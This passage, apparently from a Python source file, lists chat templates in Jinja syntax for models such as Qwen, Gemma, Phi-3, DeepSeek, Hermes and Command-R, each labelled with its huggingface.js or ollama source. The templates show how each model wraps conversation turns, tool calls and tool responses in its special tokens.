        "        {{- '<|im_end|>\\n' }}\n"
        '    {%- elif message.role == "tool" %}\n'
        '        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") '
        "%}\n"
        "            {{- '<|im_start|>user' }}\n"
        "        {%- endif %}\n"
        "        {{- '\\n<tool_response>\\n' }}\n"
        "        {{- message.content }}\n"
        "        {{- '\\n</tool_response>' }}\n"
        '        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}\n'
        "            {{- '<|im_end|>\\n' }}\n"
        "        {%- endif %}\n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|im_start|>assistant\\n' }}\n"
        "{%- endif %}\n"
    ),
    # Qwen/Qwen2.5-VL-7B-Instruct (huggingface.js e2e 'Qwen/Qwen2.5-VL-7B-Instruct')
    "qwen2.5-vl-instruct": (
        "{% set image_count = namespace(value=0) %}{% set video_count = namespace(value=0) "
        "%}{% for message in messages %}{% if loop.first and message['role'] != 'system' %}"
        "<|im_start|>system\n"
        "You are a helpful assistant.<|im_end|>\n"
        "{% endif %}<|im_start|>{{ message['role'] }}\n"
        "{% if message['content'] is string %}{{ message['content'] }}<|im_end|>\n"
        "{% else %}{% for content in message['content'] %}{% if content['type'] == 'image' "
        "or 'image' in content or 'image_url' in content %}{% set image_count.value = image"
        "_count.value + 1 %}{% if add_vision_id %}Picture {{ image_count.value }}: {% endif"
        " %}<|vision_start|><|image_pad|><|vision_end|>{% elif content['type'] == 'video' o"
        "r 'video' in content %}{% set video_count.value = video_count.value + 1 %}{% if ad"
        "d_vision_id %}Video {{ video_count.value }}: {% endif %}<|vision_start|><|video_pa"
        "d|><|vision_end|>{% elif 'text' in content %}{{ content['text'] }}{% endif %}{% en"
        "dfor %}<|im_end|>\n"
        "{% endif %}{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n"
        "{% endif %}"
    ),
    # Qwen/Qwen3-0.6B (huggingface.js e2e 'Qwen/Qwen3-0.6B')
    "qwen3": (
        "{%- if tools %}\n"
        "    {{- '<|im_start|>system\\n' }}\n"
        "    {%- if messages[0].role == 'system' %}\n"
        "        {{- messages[0].content + '\\n\\n' }}\n"
        "    {%- endif %}\n"
        '    {{- "# Tools\\n\\nYou may call one or more functions to assist with the user '
        "query.\\n\\nYou are provided with function signatures within <tools></tools> XML t"
        'ags:\\n<tools>" }}\n'
        "    {%- for tool in tools %}\n"
        '        {{- "\\n" }}\n'
        "        {{- tool | tojson }}\n"
        "    {%- endfor %}\n"
        '    {{- "\\n</tools>\\n\\nFor each function call, return a json object with funct'
        "ion name and arguments within <tool_call></tool_call> XML tags:\\n<tool_call>\\n{"
        '\\"name\\": <function-name>, \\"arguments\\": <args-json-object>}\\n</tool_cal'
        'l><|im_end|>\\n" }}\n'
        "{%- else %}\n"
        "    {%- if messages[0].role == 'system' %}\n"
        "        {{- '<|im_start|>system\\n' + messages[0].content + '<|im_end|>\\n' }}\n"
        "    {%- endif %}\n"
        "{%- endif %}\n"
        "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1)"
        " %}\n"
        "{%- for message in messages[::-1] %}\n"
        "    {%- set index = (messages|length - 1) - loop.index0 %}\n"
        '    {%- if ns.multi_step_tool and message.role == "user" and not(message.content'
        ".startswith('<tool_response>') and message.content.endswith('</tool_response>')) %"
        "}\n"
        "        {%- set ns.multi_step_tool = false %}\n"
        "        {%- set ns.last_query_index = index %}\n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- for message in messages %}\n"
        '    {%- if (message.role == "user") or (message.role == "system" and not loop.'
        "first) %}\n"
        "        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>'"
        " + '\\n' }}\n"
        '    {%- elif message.role == "assistant" %}\n'
        "        {%- set content = message.content %}\n"
        "        {%- set reasoning_content = '' %}\n"
        "        {%- if message.reasoning_content is defined and message.reasoning_content "
        "is not none %}\n"
        "            {%- set reasoning_content = message.reasoning_content %}\n"
        "        {%- else %}\n"
        "            {%- if '</think>' in message.content %}\n"
        "                {%- set content = message.content.split('</think>')[-1].lstrip('\\"
        "n') %}\n"
        "                {%- set reasoning_content = message.content.split('</think>')[0].r"
        "strip('\\n').split('<think>')[-1].lstrip('\\n') %}\n"
        "            {%- endif %}\n"
        "        {%- endif %}\n"
        "        {%- if loop.index0 > ns.last_query_index %}\n"
        "            {%- if loop.last or (not loop.last and reasoning_content) %}\n"
        "                {{- '<|im_start|>' + message.role + '\\n<think>\\n' + reasoning_co"
        "ntent.strip('\\n') + '\\n</think>\\n\\n' + content.lstrip('\\n') }}\n"
        "            {%- else %}\n"
        "                {{- '<|im_start|>' + message.role + '\\n' + content }}\n"
        "            {%- endif %}\n"
        "        {%- else %}\n"
        "            {{- '<|im_start|>' + message.role + '\\n' + content }}\n"
        "        {%- endif %}\n"
        "        {%- if message.tool_calls %}\n"
        "            {%- for tool_call in message.tool_calls %}\n"
        "                {%- if (loop.first and content) or (not loop.first) %}\n"
        "                    {{- '\\n' }}\n"
        "                {%- endif %}\n"
        "                {%- if tool_call.function %}\n"
        "                    {%- set tool_call = tool_call.function %}\n"
        "                {%- endif %}\n"
        '                {{- \'<tool_call>\\n{"name": "\' }}\n'
        "                {{- tool_call.name }}\n"
        '                {{- \'", "arguments": \' }}\n'
        "                {%- if tool_call.arguments is string %}\n"
        "                    {{- tool_call.arguments }}\n"
        "                {%- else %}\n"
        "                    {{- tool_call.arguments | tojson }}\n"
        "                {%- endif %}\n"
        "                {{- '}\\n</tool_call>' }}\n"
        "            {%- endfor %}\n"
        "        {%- endif %}\n"
        "        {{- '<|im_end|>\\n' }}\n"
        '    {%- elif message.role == "tool" %}\n'
        '        {%- if loop.first or (messages[loop.index0 - 1].role != "tool") %}\n'
        "            {{- '<|im_start|>user' }}\n"
        "        {%- endif %}\n"
        "        {{- '\\n<tool_response>\\n' }}\n"
        "        {{- message.content }}\n"
        "        {{- '\\n</tool_response>' }}\n"
        '        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}\n'
        "            {{- '<|im_end|>\\n' }}\n"
        "        {%- endif %}\n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|im_start|>assistant\\n' }}\n"
        "    {%- if enable_thinking is defined and enable_thinking is false %}\n"
        "        {{- '<think>\\n\\n</think>\\n\\n' }}\n"
        "    {%- endif %}\n"
        "{%- endif %}"
    ),
    # google/gemma-2-2b-it (ollama gemma2:2b GGUF)
    "gemma-2-it": (
        "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System "
        "role not supported') }}{% endif %}{% for message in messages %}{% if (message['rol"
        "e'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles "
        "must alternate user/assistant/user/assistant/...') }}{% endif %}{% if (message['ro"
        "le'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['ro"
        "le'] %}{% endif %}{{ '<start_of_turn>' + role + '\n"
        "' + message['content'] | trim + '<end_of_turn>\n"
        "' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\n"
        "'}}{% endif %}"
    ),
    # google/gemma-3-1b-it (ollama gemma3:1b GGUF)
    "gemma-3-it": (
        "{{ bos_token }}\n"
        "{%- if messages[0]['role'] == 'system' -%}\n"
        "    {%- set first_user_prefix = messages[0]['content'][0]['text'] + '\n"
        "\n"
        "' -%}\n"
        "    {%- set loop_messages = messages[1:] -%}\n"
        "{%- else -%}\n"
        '    {%- set first_user_prefix = "" -%}\n'
        "    {%- set loop_messages = messages -%}\n"
        "{%- endif -%}\n"
        "{%- for message in loop_messages -%}\n"
        "    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}\n"
        '        {{ raise_exception("Conversation roles must alternate user/assistant/user'
        '/assistant/...") }}\n'
        "    {%- endif -%}\n"
        "    {%- if (message['role'] == 'assistant') -%}\n"
        '        {%- set role = "model" -%}\n'
        "    {%- else -%}\n"
        "        {%- set role = message['role'] -%}\n"
        "    {%- endif -%}\n"
        "    {{ '<start_of_turn>' + role + '\n"
        '\' + (first_user_prefix if loop.first else "") }}\n'
        "    {%- if message['content'] is string -%}\n"
        "        {{ message['content'] | trim }}\n"
        "    {%- elif message['content'] is iterable -%}\n"
        "        {%- for item in message['content'] -%}\n"
        "            {%- if item['type'] == 'image' -%}\n"
        "                {{ '<start_of_image>' }}\n"
        "            {%- elif item['type'] == 'text' -%}\n"
        "                {{ item['text'] | trim }}\n"
        "            {%- endif -%}\n"
        "        {%- endfor -%}\n"
        "    {%- else -%}\n"
        '        {{ raise_exception("Invalid content type") }}\n'
        "    {%- endif -%}\n"
        "    {{ '<end_of_turn>\n"
        "' }}\n"
        "{%- endfor -%}\n"
        "{%- if add_generation_prompt -%}\n"
        "    {{'<start_of_turn>model\n"
        "'}}\n"
        "{%- endif -%}\n"
    ),
    # HuggingFaceH4/zephyr-7b-gemma-v0.1 (huggingface.js e2e 'HuggingFaceH4/zephyr-7b-gemma-v0.1')
    "zephyr-7b-gemma": (
        "{% if messages[0]['role'] == 'user' or messages[0]['role'] == 'system' %}{{ bos_to"
        "ken }}{% endif %}{% for message in messages %}{{ '<|im_start|>' + message['role'] "
        "+ '\n"
        "' + message['content'] + '<|im_end|>' + '\n"
        "' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n"
        "' }}{% elif messages[-1]['role'] == 'assistant' %}{{ eos_token }}{% endif %}"
    ),
    # transformers' default ChatML template (huggingface.js e2e '_base')
    "chatml": (
        "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n"
        "' + message['content'] + '<|im_end|>' + '\n"
        "'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n"
        "' }}{% endif %}"
    ),
    # cognitivecomputations/dolphin-2.5-mixtral-8x7b
    # (huggingface.js e2e 'cognitivecomputations/dolphin-2.5-mixtral-8x7b')
    "chatml-dolphin-mixtral": (
        "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false "
        "%}{% endif %}{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n"
        "' + message['content'] + '<|im_end|>' + '\n"
        "'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n"
        "' }}{% endif %}"
    ),
    # internlm/internlm2-chat-7b (huggingface.js e2e 'internlm/internlm2-chat-7b')
    "chatml-internlm2": (
        "{% if messages[0]['role'] == 'user' or messages[0]['role'] == 'system' %}{{ bos_to"
        "ken }}{% endif %}{% for message in messages %}{{ '<|im_start|>' + message['role'] "
        "+ '\n"
        "' + message['content'] + '<|im_end|>' + '\n"
        "' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n"
        "' }}{% elif messages[-1]['role'] == 'assistant' %}{{ eos_token }}{% endif %}"
    ),
    # NousResearch/Hermes-2-Pro-Llama-3-8B
    # (huggingface.js e2e 'NousResearch/Hermes-2-Pro-Llama-3-8B (JSON Schema)')
    "hermes-2-pro-llama-3-tools": (
        "{%- macro json_to_python_type(json_spec) %}\n"
        "{%- set basic_type_map = {\n"
        '    "string": "str",\n'
        '    "number": "float",\n'
        '    "integer": "int",\n'
        '    "boolean": "bool"\n'
        "} %}\n"
        "\n"
        "{%- if basic_type_map[json_spec.type] is defined %}\n"
        "    {{- basic_type_map[json_spec.type] }}\n"
        '{%- elif json_spec.type == "array" %}\n'
        '    {{- "list[" +  json_to_python_type(json_spec|items) + "]"}}\n'
        '{%- elif json_spec.type == "object" %}\n'
        "    {%- if json_spec.additionalProperties is defined %}\n"
        '        {{- "dict[str, " + json_to_python_type(json_spec.additionalProperties) +'
        " ']'}}\n"
        "    {%- else %}\n"
        '        {{- "dict" }}\n'
        "    {%- endif %}\n"
        "{%- elif json_spec.type is iterable %}\n"
        '    {{- "Union[" }}\n'
        "    {%- for t in json_spec.type %}\n"
        '      {{- json_to_python_type({"type": t}) }}\n'
        "      {%- if not loop.last %}\n"
        '        {{- "," }} \n'
        "    {%- endif %}\n"
        "    {%- endfor %}\n"
        '    {{- "]" }}\n'
        "{%- else %}\n"
        '    {{- "Any" }}\n'
        "{%- endif %}\n"
        "{%- endmacro %}\n"
        "\n"
        "\n"
        "{{- bos_token }}\n"
        '{{- "You are a function calling AI model. You are provided with function signatur'
        "es within <tools></tools> XML tags. You may call one or more functions to assist w"
        "ith the user query. Don't make assumptions about what values to plug into function"
        's. Here are the available tools: <tools> " }}\n'
        "{%- for tool in tools %}\n"
        "    {%- if tool.function is defined %}\n"
        "        {%- set tool = tool.function %}\n"
        "    {%- endif %}\n"
        '    {{- \'{"type": "function", "function": \' }}\n'
        "    {{- '{\"name\": ' + tool.name + '\", ' }}\n"
        "    {{- '\"description\": \"' + tool.name + '(' }}\n"
        "    {%- for param_name, param_fields in tool.parameters.properties|items %}\n"
        '        {{- param_name + ": " + json_to_python_type(param_fields) }}\n'
        "        {%- if not loop.last %}\n"
        '            {{- ", " }}\n'
        "        {%- endif %}\n"
        "    {%- endfor %}\n"
        '    {{- ")" }}\n'
        "    {%- if tool.return is defined %}\n"
        '        {{- " -> " + json_to_python_type(tool.return) }}\n'
        "    {%- endif %}\n"
        '    {{- " - " + tool.description + "\\n\\n" }}\n'
        "    {%- for param_name, param_fields in tool.parameters.properties|items %}\n"
        "        {%- if loop.first %}\n"
        '            {{- "    Args:\\n" }}\n'
        "        {%- endif %}\n"
        '        {{- "        " + param_name + "(" + json_to_python_type(param_fields) '
        '+ "): " + param_fields.description|trim }}\n'
        "    {%- endfor %}\n"
        "    {%- if tool.return is defined and tool.return.description is defined %}\n"
        '        {{- "\\n    Returns:\\n        " + tool.return.description }}\n'
        "    {%- endif %}\n"
        "    {{- '\"' }}\n"
        "    {{- ', \"parameters\": ' }}\n"
        "    {%- if tool.parameters.properties | length == 0 %}\n"
        '        {{- "{}" }}\n'
        "    {%- else %}\n"
        "        {{- tool.parameters | tojson}}\n"
        "    {%- endif %}\n"
        '    {{- "}" }}\n'
        "    {%- if not loop.last %}\n"
        '        {{- "\\n" }}\n'
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        '{{- " </tools>" }}\n'
        "{{- 'Use the following pydantic model json schema for each tool call you will make"
        ': {"properties": {"arguments": {"title": "Arguments", "type": "object"'
        '}, "name": {"title": "Name", "type": "string"}}, "required": ["argume'
        'nts", "name"], "title": "FunctionCall", "type": "object"}\n'
        "' }}\n"
        '{{- "For each function call return a json object with function name and arguments'
        " within <tool_call></tool_call> XML tags as follows:\n"
        '" }}\n'
        '{{- "<tool_call>\n'
        '" }}\n'
        '{{- \'{"arguments": <args-dict>, "name": <function-name>}\n'
        "' }}\n"
        "{{- '</tool_call><|im_end|>' }}\n"
        "{%- for message in messages %}\n"
        '    {%- if message.role == "user" or message.role == "system" or (message.role'
        ' == "assistant" and message.tool_calls is not defined) %}\n'
        "        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>'"
        " + '\\n' }}\n"
        '    {%- elif message.role == "assistant" %}\n'
        "        {{- '<|im_start|>' + message.role + '\\n<tool_call>\\n' }}\n"
        "        {%- for tool_call in message.tool_calls %}\n"
        "            {%- if tool_call.function is defined %}\n"
        "                {%- set tool_call = tool_call.function %}\n"
        "            {%- endif %}\n"
        "            {{- '{ ' }}\n"
        "            {%- if tool_call.arguments is defined %}\n"
        "                {{- '\"arguments\": ' }}\n"
        "                {{- tool_call.arguments|tojson }}\n"
        "                {{- ', '}}\n"
        "            {%- endif %}\n"
        '            {{- \'"name": "\' }}\n'
        "            {{- tool_call.name }}\n"
        "            {{- '\"}' }}\n"
        "            {{- '\\n</tool_call> ' }}\n"
        "        {%- endfor %}\n"
        "        {{- '<|im_end|>\\n' }}\n"
        '    {%- elif message.role == "tool" %}\n'
        "        {%- if not message.name is defined %}\n"
        "            {{- raise_exception(\"Tool response dicts require a 'name' key indicat"
        'ing the name of the called function!") }}\n'
        "        {%- endif %}\n"
        "        {{- '<|im_start|>' + message.role + '\\n<tool_response>\\n' }}\n"
        '        {{- \'{"name": "\' }}\n'
        "        {{- message.name }}\n"
        '        {{- \'", "content": \' }}\n'
        "        {{- message.content|tojson + '}' }}\n"
        "        {{- '\\n</tool_response> <|im_end|>\\n' }} \n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|im_start|>assistant\\n' }}\n"
        "{%- endif %}\n"
    ),
    # microsoft/Phi-3-mini-4k-instruct (ollama phi3:3.8b GGUF)
    "phi-3-mini": (
        "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\n"
        "' + message['content'] + '<|end|>\n"
        "'}}{% elif message['role'] == 'user' %}{{'<|user|>\n"
        "' + message['content'] + '<|end|>\n"
        "'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>\n"
        "' + message['content'] + '<|end|>\n"
        "'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\n"
        "' }}{% else %}{{ eos_token }}{% endif %}"
    ),
    # microsoft/Phi-3-medium-4k-instruct (ollama phi3:14b GGUF)
    "phi-3-medium": (
        "{% for message in messages %}{% if (message['role'] == 'user') %}{{'<|user|>' + '"
        "\n"
        "' + message['content'] + '<|end|>' + '\n"
        "' + '<|assistant|>' + '\n"
        "'}}{% elif (message['role'] == 'assistant') %}{{message['content'] + '<|end|>' + '"
        "\n"
        "'}}{% endif %}{% endfor %}"
    ),
    # microsoft/Phi-3.5-mini-instruct (ollama phi3.5:3.8b GGUF)
    "phi-3.5-mini": (
        "{% for message in messages %}{% if message['role'] == 'system' and message['conten"
        "t'] %}{{'<|system|>\n"
        "' + message['content'] + '<|end|>\n"
        "'}}{% elif message['role'] == 'user' %}{{'<|user|>\n"
        "' + message['content'] + '<|end|>\n"
        "'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>\n"
        "' + message['content'] + '<|end|>\n"
        "'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\n"
        "' }}{% else %}{{ eos_token }}{% endif %}"
    ),
    # HuggingFaceH4/zephyr-7b-beta
    # (huggingface.js e2e 'HuggingFaceH4/zephyr-7b-beta (add_generation_prompt=true)')
    "zephyr-7b-beta": (
        "{% for message in messages %}\n"
        "{% if message['role'] == 'user' %}\n"
        "{{ '<|user|>\n"
        "' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'system' %}\n"
        "{{ '<|system|>\n"
        "' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'assistant' %}\n"
        "{{ '<|assistant|>\n"
        "'  + message['content'] + eos_token }}\n"
        "{% endif %}\n"
        "{% if loop.last and add_generation_prompt %}\n"
        "{{ '<|assistant|>' }}\n"
        "{% endif %}\n"
        "{% endfor %}"
    ),
    # TinyLlama/TinyLlama-1.1B-Chat-v1.0 (ollama tinyllama:1.1b GGUF)
    "tinyllama-chat": (
        "{% for message in messages %}\n"
        "{% if message['role'] == 'user' %}\n"
        "{{ '<|user|>\n"
        "' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'system' %}\n"
        "{{ '<|system|>\n"
        "' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'assistant' %}\n"
        "{{ '<|assistant|>\n"
        "'  + message['content'] + eos_token }}\n"
        "{% endif %}\n"
        "{% if loop.last and add_generation_prompt %}\n"
        "{{ '<|assistant|>' }}\n"
        "{% endif %}\n"
        "{% endfor %}"
    ),
    # deepseek-ai/deepseek-llm-7b-chat (huggingface.js e2e 'deepseek-ai/deepseek-llm-7b-chat')
    "deepseek-llm-chat": (
        "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false "
        "%}{% endif %}{{ bos_token }}{% for message in messages %}{% if message['role'] == "
        "'user' %}{{ 'User: ' + message['content'] + '\n"
        "\n"
        "' }}{% elif message['role'] == 'assistant' %}{{ 'Assistant: ' + message['content']"
        " + eos_token }}{% elif message['role'] == 'system' %}{{ message['content'] + '\n"
        "\n"
        "' }}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ 'Assistant:' }}{% endi"
        "f %}"
    ),
    # deepseek-ai/deepseek-coder-33b-instruct
    # (huggingface.js e2e 'deepseek-ai/deepseek-coder-33b-instruct')
    "deepseek-coder-instruct": (
        "{% if not add_generation_prompt is defined %}\n"
        "{% set add_generation_prompt = false %}\n"
        "{% endif %}\n"
        "{%- set ns = namespace(found=false) -%}\n"
        "{%- for message in messages -%}\n"
        "    {%- if message['role'] == 'system' -%}\n"
        "        {%- set ns.found = true -%}\n"
        "    {%- endif -%}\n"
        "{%- endfor -%}\n"
        "{{bos_token}}{%- if not ns.found -%}\n"
        "{{'You are an AI programming assistant, utilizing the Deepseek Coder model, develo"
        "ped by Deepseek Company, and you only answer questions related to computer science"
        ". For politically sensitive questions, security and privacy issues, and other non-"
        "computer science questions, you will refuse to answer\\n'}}\n"
        "{%- endif %}\n"
        "{%- for message in messages %}\n"
        "    {%- if message['role'] == 'system' %}\n"
        "{{ message['content'] }}\n"
        "    {%- else %}\n"
        "        {%- if message['role'] == 'user' %}\n"
        "{{'### Instruction:\\n' + message['content'] + '\\n'}}\n"
        "        {%- else %}\n"
        "{{'### Response:\\n' + message['content'] + '\\n<|EOT|>\\n'}}\n"
        "        {%- endif %}\n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{% if add_generation_prompt %}\n"
        "{{'### Response:'}}\n"
        "{% endif %}"
    ),
    # deepseek-ai/DeepSeek-V3 (ollama deepseek-v3:671b GGUF)
    "deepseek-v3": (
        "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false "
        "%}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_first="
        "true, system_prompt='', is_first_sp=true) %}{%- for message in messages %}{%- if m"
        "essage['role'] == 'system' %}{%- if ns.is_first_sp %}{% set ns.system_prompt = ns."
        "system_prompt + message['content'] %}{% set ns.is_first_sp = false %}{%- else %}{%"
        " set ns.system_prompt = ns.system_prompt + '\n"
        "\n"
        "' + message['content'] %}{%- endif %}{%- endif %}{%- endfor %}{{bos_token}}{{ns.sy"
        "stem_prompt}}{%- for message in messages %}{%- if message['role'] == 'user' %}{%- "
        "set ns.is_tool = false -%}{{'<｜User｜>' + message['content']}}{%- endif %}{%- if "
        "message['role'] == 'assistant' and message['content'] is none %}{%- set ns.is_tool"
        " = false -%}{%- for tool in message['tool_calls']%}{%- if not ns.is_first %}{{'<｜"
        "Assistant｜><｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<｜tool"
        "▁sep｜>' + tool['function']['name'] + '\n"
        "' + '```json' + '\n"
        "' + tool['function']['arguments'] + '\n"
        "' + '```' + '<｜tool▁call▁end｜>'}}{%- set ns.is_first = true -%}{%- else %}{{'\n"
        "' + '<｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['"
        "name'] + '\n"
        "' + '```json' + '\n"
        "' + tool['function']['arguments'] + '\n"
        "' + '```' + '<｜tool▁call▁end｜>'}}{{'<｜tool▁calls▁end｜><｜end▁of▁sentence｜>'}}"
        "{%- endif %}{%- endfor %}{%- endif %}{%- if message['role'] == 'assistant' and mes"
        "sage['content'] is not none %}{%- if ns.is_tool %}{{'<｜tool▁outputs▁end｜>' + mes"
        "sage['content'] + '<｜end▁of▁sentence｜>'}}{%- set ns.is_tool = false -%}{%- else "
        "%}{{'<｜Assistant｜>' + message['content'] + '<｜end▁of▁sentence｜>'}}{%- endif %}"
        "{%- endif %}{%- if message['role'] == 'tool' %}{%- set ns.is_tool = true -%}{%- if"
        " ns.is_output_first %}{{'<｜tool▁outputs▁begin｜><｜tool▁output▁begin｜>' + messag"
        "e['content'] + '<｜tool▁output▁end｜>'}}{%- set ns.is_output_first = false %}{%- e"
        "lse %}{{'\n"
        "<｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}{%- endif"
        " %}{%- endif %}{%- endfor -%}{% if ns.is_tool %}{{'<｜tool▁outputs▁end｜>'}}{% end"
        "if %}{% if add_generation_prompt and not ns.is_tool %}{{'<｜Assistant｜>'}}{% endi"
        "f %}"
    ),
    # deepseek-ai/DeepSeek-R1 (huggingface.js e2e 'deepseek-ai/DeepSeek-R1')
    "deepseek-r1": (
        "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false "
        "%}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_first="
        "true, system_prompt='', is_first_sp=true) %}{%- for message in messages %}{%- if m"
        "essage['role'] == 'system' %}{%- if ns.is_first_sp %}{% set ns.system_prompt = ns."
        "system_prompt + message['content'] %}{% set ns.is_first_sp = false %}{%- else %}{%"
        " set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}{%- end"
        "if %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}{%- for message"
        " in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{"
        "'<｜User｜>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistan"
        "t' and 'tool_calls' in message %}{%- set ns.is_tool = false -%}{%- for tool in mes"
        "sage['tool_calls'] %}{%- if not ns.is_first %}{%- if message['content'] is none %}"
        "{{'<｜Assistant｜><｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<"
        "｜tool▁sep｜>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['func"
        "tion']['arguments'] + '\\n' + '```' + '<｜tool▁call▁end｜>'}}{%- else %}{{'<｜Assi"
        "stant｜>' + message['content'] + '<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + t"
        "ool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n' + '```json' + '"
        "\\n' + tool['function']['arguments'] + '\\n' + '```' + '<｜tool▁call▁end｜>'}}{%- "
        "endif %}{%- set ns.is_first = true -%}{%- else %}{{'\\n' + '<｜tool▁call▁begin｜>'"
        " + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n' + '```json' "
        "+ '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<｜tool▁call▁end｜>'}}{"
        "%- endif %}{%- endfor %}{{'<｜tool▁calls▁end｜><｜end▁of▁sentence｜>'}}{%- endif %"
        "}{%- if message['role'] == 'assistant' and 'tool_calls' not in message %}{%- if ns"
        ".is_tool %}{{'<｜tool▁outputs▁end｜>' + message['content'] + '<｜end▁of▁sentence｜"
        ">'}}{%- set ns.is_tool = false -%}{%- else %}{% set content = message['content'] %"
        "}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{%"
        " endif %}{{'<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- "
        "endif %}{%- if message['role'] == 'tool' %}{%- set ns.is_tool = true -%}{%- if ns."
        "is_output_first %}{{'<｜tool▁outputs▁begin｜><｜tool▁output▁begin｜>' + message['c"
        "ontent'] + '<｜tool▁output▁end｜>'}}{%- set ns.is_output_first = false %}{%- else "
        "%}{{'<｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}{%- "
        "endif %}{%- endif %}{%- endfor -%}{% if ns.is_tool %}{{'<｜tool▁outputs▁end｜>'}}{"
        "% endif %}{% if add_generation_prompt and not ns.is_tool %}{{'<｜Assistant｜>'}}{%"
        " endif %}"
    ),
    # CohereForAI/c4ai-command-r-v01
    # (huggingface.js e2e 'CohereForAI/c4ai-command-r-v01 (JSON Schema)')
    "command-r-tools": (
        "\n"
        "{%- macro json_to_python_type(json_spec) %}\n"
        "{%- set basic_type_map = {\n"
        '    "string": "str",\n'
        '    "number": "float",\n'
        '    "integer": "int",\n'
        '    "boolean": "bool"\n'
        "} %}\n"
        "\n"
        "{%- if basic_type_map[json_spec.type] is defined %}\n"
        "    {{- basic_type_map[json_spec.type] }}\n"
        '{%- elif json_spec.type == "array" %}\n'
        '    {{- "List[" +  json_to_python_type(json_spec.items) + "]"}}\n'
        '{%- elif json_spec.type == "object" %}\n'
        "    {{- \"Dict[str, \" + json_to_python_type(json_spec.additionalProperties) + ']'"
        "}}\n"
        "{%- elif json_spec.type is iterable %}\n"
        '    {{- "Union[" }}\n'
        "    {%- for t in json_spec.type %}\n"
        '      {{- json_to_python_type({"type": t}) }}\n'
        "      {%- if not loop.last %}\n"
        '        {{- "," }} \n'
        "    {%- endif %}\n"
        "    {%- endfor %}\n"
        '    {{- "]" }}\n'
        "{%- else %}\n"
        '    {{- "Any" }}\n'
        "{%- endif %}\n"
        "{%- endmacro %}\n"
        "\n"
        "{%- macro old_tool_parser(tools) %}\n"
        "{%- for tool in tools %}\n"
        "    {%- if loop.index0 != 0 %}\n"
        "        {{- '\\n\\n' }}\n"
        "    {%- endif %}\n"
        "    {{- '```python\\ndef ' + tool.name + '(' }}\n"
        "    {%- for param_name, param_fields in tool.parameter_definitions.items() %}\n"
        "        {%- if loop.index0 != 0 %}\n"
        "            {{- ', '}}\n"
        "        {%- endif %}\n"
        "        {{- param_name + ': ' }}\n"
        "        {%- if not param_fields.required %}\n"
        "            {{- 'Optional[' + param_fields.type + '] = None'}}\n"
        "        {%- else %}\n"
        "            {{- param_fields.type }}\n"
        "        {%- endif %}\n"
        "    {%- endfor %}\n"
        '    {{- \') -> List[Dict]:\\n    """\'}}\n'
        "    {{- tool.description }}\n"
        "    {%- if tool.parameter_definitions|length != 0 %}\n"
        "        {{- '\\n\\n    Args:\\n        '}}\n"
        "        {%- for param_name, param_fields in tool.parameter_definitions.items() %}"
        "\n"
        "            {%- if loop.index0 != 0 %}\n"
        "                {{- '\\n        ' }}\n"
        "            {%- endif %}\n"
        "            {{- param_name + ' ('}}\n"
        "            {%- if not param_fields.required %}\n"
        "                {{- 'Optional[' + param_fields.type + ']'}}\n"
